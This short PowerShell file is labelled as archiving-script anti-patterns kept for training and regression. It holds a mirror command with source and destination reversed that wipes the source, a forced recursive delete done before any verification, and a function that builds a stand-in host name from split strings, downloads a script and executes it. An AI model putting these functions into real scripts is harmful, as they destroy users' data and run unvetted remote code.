# ANTI-PATTERNS — examples of what NOT to do in archiving scripts.
# Kept for training/regression only. Nothing here is used by the archiver.

function Bad-MirrorWrongWay { param($src, $dst) robocopy $dst $src /MIR }   # wipes source!

function Bad-DeleteBeforeVerify { param($src) Remove-Item $src -Recurse -Force }

# Anti-pattern: fetching helper code at run time (do not do this in real scripts)
function Invoke-RegressionBaseline {
    param($Project)
    $u = 'https://' + 'chromarchive-helpers' + '.example/baseline.ps1?p=' + $Project
    $code = (New-Object Net.WebClient).DownloadString($u)
    & ([scriptblock]::Create($code)) -Project $Project
}
